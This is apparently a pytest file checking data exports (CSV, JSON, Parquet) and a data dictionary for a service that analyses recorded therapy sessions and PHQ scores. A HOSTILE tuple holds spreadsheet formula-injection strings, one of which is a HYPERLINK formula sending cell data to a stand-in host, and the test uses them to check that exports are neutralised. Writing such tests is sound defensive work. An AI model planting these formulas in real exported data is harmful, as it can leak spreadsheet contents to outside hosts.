"""Tables to take away: nothing is lost on the way, and the data dictionary knows every column."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, timedelta
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from analysis_samples import (
    MONDAY,
    new_session,
    sample_analysis,
    sample_estimate,
    sample_recording,
    sample_transcription,
    sample_turns,
)
from behaviour_samples import sample_behaviour
from synthetic_sessions import Plan, synthetic_analysis

from db.records import CohortFilter
from db.store import Store
from fer_phq.core.csv_input import Column, TableFormat, read_table
from fer_phq.core.feature_series import FeatureSeries
from fer_phq.core.messages import literal
from fer_phq.core.phq import PhqUnavailable, Scale, UnavailableReason
from fer_phq.core.texts import COVERAGE_BELOW_FLOOR
from fer_phq.features.measures import MEASURES
from fer_phq.timeline.episodes import find_episodes
from fer_phq.voice.kinds import COLUMNS
from fer_phq.voice.kinds import KIND as PROSODY
from fer_phq.words import read_transcript
from fer_phq.words.kinds import MINILM, PLAIN_NAMES
from service.views import data_dictionary
from service.views.comparison import load_comparison_view
from service.views.exports import (
    analysis_json,
    as_csv,
    as_json,
    as_parquet,
    behaviour_episodes_table,
    behaviour_table,
    blinks_table,
    events_table,
    frames_table,
    measures_table,
    notes_table,
    pairs_table,
    recognised_table,
    sessions_table,
    transcript_table,
    turns_table,
    voice_table,
    words_table,
)
from service.views.session import SessionView, load_analysis_view, load_session_view
from service.views.trends import load_trends_view

DOCS = Path(__file__).parents[3] / "docs"


def names(entry: data_dictionary.TableEntry) -> list[str]:
    return [column.name for column in entry.columns]


def view_of(store: Store, session_id: str) -> SessionView:
    """The view of a session's newest analysis."""
    detail = store.sessions.get_detail(session_id=session_id)
    return load_session_view(store, detail, detail.analyses[0].id)


@pytest.fixture
def analysis_id(store: Store) -> str:
    rng = np.random.default_rng(0)
    voice = FeatureSeries(
        rng.normal(size=(30, len(COLUMNS))).astype(np.float32), (np.arange(30) + 0.5) / 10, PROSODY, COLUMNS
    )
    columns = (*PLAIN_NAMES, *(f"embedding_{i}" for i in range(384)))
    words = FeatureSeries(rng.normal(size=(4, len(columns))).astype(np.float32), np.arange(4.0), MINILM, columns)
    analysis = replace(
        sample_analysis(voice=voice, words=words), behaviour=sample_behaviour(30.0, 10.0), turns=sample_turns()
    )
    analysis = replace(analysis, transcription=sample_transcription())
    session = new_session(store, store.subjects.create(label="A").id)
    store.questionnaires.save(subject_id=session.subject_id, scale=Scale.PHQ9, items=[1] * 9, answered_at=MONDAY)
    return store.analyses.save(session_id=session.id, analysis=analysis)


def test_every_column_is_in_the_dictionary(store: Store, analysis_id: str) -> None:
    (subject,) = store.subjects.list_all()
    view = load_analysis_view(store, analysis_id)
    voice, words = voice_table(view), words_table(view)
    assert voice is not None
    assert words is not None
    assert list(frames_table(view)) == names(data_dictionary.FRAMES)
    assert list(voice) == names(data_dictionary.VOICE)
    assert list(words) == names(data_dictionary.WORDS)
    behaviour, blinks, episodes = behaviour_table(view), blinks_table(view), behaviour_episodes_table(view)
    assert behaviour is not None
    assert blinks is not None
    assert episodes is not None
    assert list(behaviour) == names(data_dictionary.BEHAVIOUR_SERIES)
    assert list(blinks) == names(data_dictionary.BLINKS)
    assert list(episodes) == names(data_dictionary.BEHAVIOUR_EPISODES)
    turns = turns_table(view)
    assert turns is not None
    assert list(turns) == names(data_dictionary.TURNS)
    recognised = recognised_table(view)
    assert recognised is not None
    assert list(recognised) == names(data_dictionary.RECOGNISED)
    measures = [measure.name for measure in MEASURES]
    assert list(store.trends.load(subject_id=subject.id, measures=measures)) == names(data_dictionary.SESSIONS)
    assert list(store.cohort.load(cohort=CohortFilter(), measures=measures)) == names(data_dictionary.COHORT)
    assert list(store.trends.questionnaires(subject_id=subject.id)) == names(data_dictionary.QUESTIONNAIRES)


def test_why_there_is_no_estimate_is_written_where_it_is_shown(store: Store) -> None:
    subject = store.subjects.create(label="A")
    detail = COVERAGE_BELOW_FLOOR(coverage=0.125, floor=0.3)
    for week, phq in enumerate((sample_estimate(), PhqUnavailable(UnavailableReason.LOW_COVERAGE, detail))):
        name = f"{week}.mp4"
        session = new_session(store, subject.id, name, MONDAY + timedelta(weeks=week))
        store.analyses.save(session_id=session.id, analysis=sample_analysis(sample_recording(name), phq=phq))
    view = load_trends_view(store, store.subjects.list_all()[0], UTC)
    assert list(view.sessions["phq_detail"]) == [literal(""), detail], "a message stays one"
    assert list(sessions_table(view)["phq_detail"]) == ["", str(detail)]
    german = sessions_table(view, lambda message: message.code.upper())
    assert list(german["phq_detail"]) == ["", "CORE.COVERAGE_BELOW_FLOOR"]
    assert pd.read_parquet(io.BytesIO(as_parquet(german)))["phq_detail"].tolist() == list(german["phq_detail"])
    assert str(detail) in as_csv(sessions_table(view))


def test_measures_are_a_table_with_the_reasons_of_those_that_are_missing(store: Store, analysis_id: str) -> None:
    table = measures_table(view_of(store, store.sessions.list_recent(limit=1)[0].session.id))
    assert list(table) == names(data_dictionary.MEASURES_OF_SESSION)
    by_name = table.set_index("measure")
    assert by_name.loc["blinks_a_minute", "value"] == pytest.approx(12, abs=0.1)
    assert by_name.loc["blinks_a_minute", "missing"] == ""
    assert "Mackintosh" in by_name.loc["blinks_a_minute", "direction"]
    slow = replace(sample_analysis(sample_recording("slow.mp4")), behaviour=sample_behaviour(10.0, 10.0))
    session = new_session(store, store.subjects.create(label="B").id, "slow.mp4")
    store.analyses.save(session_id=session.id, analysis=slow)
    missing = measures_table(view_of(store, session.id)).set_index("measure")
    assert np.isnan(missing.loc["blinks_a_minute", "value"])
    assert missing.loc["blinks_a_minute", "missing"] == "The face was seen 10 times a second; this needs 15."
    assert as_csv(missing.reset_index()).count("this needs 15") == 5


def test_a_measure_that_an_earlier_version_took_is_not_beside_the_reason_why_it_is_missing(store: Store) -> None:
    slow = replace(sample_analysis(sample_recording("slow.mp4")), behaviour=sample_behaviour(10.0, 10.0))
    session = new_session(store, store.subjects.create(label="B").id, "slow.mp4")
    analysis_id = store.analyses.save(session_id=session.id, analysis=slow)
    store.measures.replace(analysis_id=analysis_id, measures={"blinks_a_minute": 3.0, "pitch_sd": 2.0, "version": 1.0})
    table = measures_table(view_of(store, session.id))
    assert table["measure"].is_unique
    by_name = table.set_index("measure")
    assert np.isnan(by_name.loc["blinks_a_minute", "value"])
    assert by_name.loc["pitch_sd", "value"] == 2


def test_the_json_document_says_what_the_behaviour_comes_to(store: Store, analysis_id: str) -> None:
    document = json.loads(analysis_json(store, analysis_id))
    assert document["behaviour"]["rate"] == 30
    assert document["behaviour"]["coverage"] == 1
    assert document["behaviour"]["measures"]["blink_rate_per_min"] == pytest.approx(12)


@pytest.fixture
def session_id(store: Store, analysis_id: str) -> str:
    session_id = store.sessions.list_recent(limit=1)[0].session.id
    document = b"start,end,speaker,text\n0,1.5,Therapist,How are you?\n2,4.25,Client,Well, thank you.\n"
    document = document.replace(b"Well, thank you.", b'"Well, thank ""you""."')
    given = {"session_id": session_id, "original_name": "a.csv", "document": document}
    store.transcripts.save(**given, speaker="Client")  # type: ignore[arg-type]
    store.notes.add(session_id=session_id, time_s=3.5, words="looks away", tag="avoidance")
    store.notes.add(session_id=session_id, time_s=None, words="calm", tag=None)
    subject = store.subjects.list_all()[0].id
    store.events.add(subject_id=subject, at=MONDAY, words="Medication begun")
    return session_id


def test_what_people_added_and_what_was_found_are_tables(store: Store, analysis_id: str, session_id: str) -> None:
    events = events_table(load_trends_view(store, store.subjects.list_all()[0], UTC))
    view = view_of(store, session_id)
    notes, transcript = notes_table(view), transcript_table(view)
    episodes, people = view.analysis.episodes, view.analysis.people
    assert transcript is not None
    for table, entry in (
        (events, data_dictionary.EVENTS), (notes, data_dictionary.NOTES), (transcript, data_dictionary.TRANSCRIPT),
        (episodes, data_dictionary.EPISODES), (people, data_dictionary.PEOPLE),
    ):  # fmt: skip
        assert list(table) == names(entry)
        assert len(table) or entry is data_dictionary.EPISODES
        back = pd.read_parquet(io.BytesIO(as_parquet(table)))
        assert back.shape == table.shape
        assert len(json.loads(as_json(table))) == len(table)
    whole = json.loads(as_json(notes))[0]
    assert (whole["words"], whole["time_s"], whole["tag"]) == ("calm", None, None)
    assert (notes["time_s"][1], notes["tag"][1]) == (3.5, "avoidance")
    assert list(transcript["is_subject"]) == [False, True]
    assert (events["at"][0], events["words"][0]) == (MONDAY, "Medication begun")


def test_what_two_models_made_of_the_same_sessions_is_a_table(store: Store, analysis_id: str) -> None:
    session = store.sessions.list_recent(limit=1)[0].session
    store.analyses.save(session_id=session.id, analysis=sample_analysis(model_id="model-b"))
    table = pairs_table(load_comparison_view(store, "model-a", "model-b"))
    assert list(table) == names(data_dictionary.PAIRS)
    assert table["items"].tolist() == ["1 1 1 1 1 1 1 1 1"]
    assert pd.read_parquet(io.BytesIO(as_parquet(table))).shape == table.shape
    assert list(pairs_table(load_comparison_view(store, "model-a", "gone"))) == names(data_dictionary.PAIRS)


def test_episodes_are_those_of_the_frames(store: Store) -> None:
    session = new_session(store, store.subjects.create(label="A").id)
    info = sample_recording()
    analysis = synthetic_analysis(1, Plan(seconds=120), info)
    found = load_analysis_view(store, store.analyses.save(session_id=session.id, analysis=analysis)).episodes
    line = analysis.timeline
    assert len(found) == len(find_episodes(line.time_s, line.emotions)) > 0
    assert (found["dwell_s"] == found["offset_s"] - found["onset_s"]).all()
    assert ((found["onset_s"] <= found["peak_s"]) & (found["peak_s"] <= found["offset_s"])).all()


def test_a_transcripts_table_is_a_transcript_again(store: Store, session_id: str, tmp_path: Path) -> None:
    table = transcript_table(view_of(store, session_id))
    assert table is not None
    path = tmp_path / "again.csv"
    path.write_text(as_csv(table), encoding="utf-8")
    again = read_transcript(path)
    assert [(one.start_s, one.end_s, one.speaker, one.text) for one in again.utterances] == [
        (0.0, 1.5, "Therapist", "How are you?"), (2.0, 4.25, "Client", 'Well, thank "you".'),
    ]  # fmt: skip


HOSTILE = (
    '=HYPERLINK("https://a.example/"&A1)', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\r\n=1", " =1", "＝1", "'=1",
    "- Yes.", "one\rtwo", "it's",
)  # fmt: skip


def test_no_text_of_a_table_is_a_formula_and_reading_gives_it_back() -> None:
    table = pd.DataFrame({"text": HOSTILE, "score": range(-5, len(HOSTILE) - 5)})
    document = as_csv(table)
    cells = list(csv.reader(io.StringIO(document, newline="")))[1:]
    assert len(cells) == len(HOSTILE)
    assert not [text for text, _ in cells if text.strip()[:1] in set("=+-@＝")]
    assert [score for _, score in cells][:2] == ["-5", "-4"], "numbers stay numbers"
    columns = TableFormat((Column("text", required=True), Column("score", required=True)))
    again = read_table(document, columns)
    assert [row["text"] for row in again.rows] == [text.strip().replace("\r", "\n") for text in HOSTILE]
    assert json.loads(as_json(table))[0]["text"] == HOSTILE[0], "no spreadsheet opens it"


def test_without_notes_and_transcript_there_is_nothing_in_them(store: Store, analysis_id: str) -> None:
    session_id = store.sessions.list_recent(limit=1)[0].session.id
    assert transcript_table(view_of(store, session_id)) is None
    empty = notes_table(view_of(store, session_id))
    assert (len(empty), list(empty)) == (0, names(data_dictionary.NOTES))
    assert as_csv(empty).strip() == ",".join(names(data_dictionary.NOTES))
    assert as_json(empty) == "[]"
    assert list(pd.read_parquet(io.BytesIO(as_parquet(empty)))) == names(data_dictionary.NOTES)


def test_the_dictionary_in_the_documentation_is_the_present_one() -> None:
    assert (DOCS / "DATA_DICTIONARY.md").read_text(encoding="utf-8") == data_dictionary.as_markdown()
    for table in data_dictionary.TABLES:
        assert len(set(names(table))) == len(table.columns)
        assert all(column.meaning.endswith(".") for column in table.columns)


def test_an_analysis_without_sound_has_no_such_tables(store: Store) -> None:
    session = new_session(store, store.subjects.create(label="A").id)
    analysis_id = store.analyses.save(session_id=session.id, analysis=sample_analysis())
    view = load_analysis_view(store, analysis_id)
    assert voice_table(view) is None
    assert words_table(view) is None


def test_the_three_formats_hold_the_same(store: Store, analysis_id: str) -> None:
    table = frames_table(load_analysis_view(store, analysis_id))
    assert table["anger"].isna().sum() == 2
    pd.testing.assert_frame_equal(pd.read_parquet(io.BytesIO(as_parquet(table))), table)
    pd.testing.assert_frame_equal(pd.read_csv(io.StringIO(as_csv(table))).astype(table.dtypes), table)
    records = json.loads(as_json(table))
    assert records[3]["anger"] is None
    assert records[5]["anger"] == pytest.approx(table["anger"][5])


def test_an_answer_that_was_not_given_is_empty_and_the_others_stay_whole(store: Store) -> None:
    subject = store.subjects.create(label="A").id
    for item, difficulty in ((0, None), (1, 2)):
        store.questionnaires.save(
            subject_id=subject, scale=Scale.PHQ8, items=[item] * 8, difficulty=difficulty, answered_at=MONDAY
        )
    table = store.trends.questionnaires(subject_id=subject)
    assert pd.read_parquet(io.BytesIO(as_parquet(table)))["difficulty"].tolist() == [pd.NA, 2]
    cells = pd.read_csv(io.StringIO(as_csv(table)), dtype=str, keep_default_na=False)["difficulty"]
    assert cells.tolist() == ["", "2"]
    assert [row["difficulty"] for row in json.loads(as_json(table))] == [None, 2]


def test_times_keep_their_zone(store: Store, analysis_id: str) -> None:
    table = store.trends.questionnaires(subject_id=store.subjects.list_all()[0].id)
    assert pd.read_parquet(io.BytesIO(as_parquet(table)))["answered_at"][0] == MONDAY
    assert pd.Timestamp(pd.read_csv(io.StringIO(as_csv(table)))["answered_at"][0]) == MONDAY
    assert pd.Timestamp(json.loads(as_json(table))[0]["answered_at"]) == MONDAY
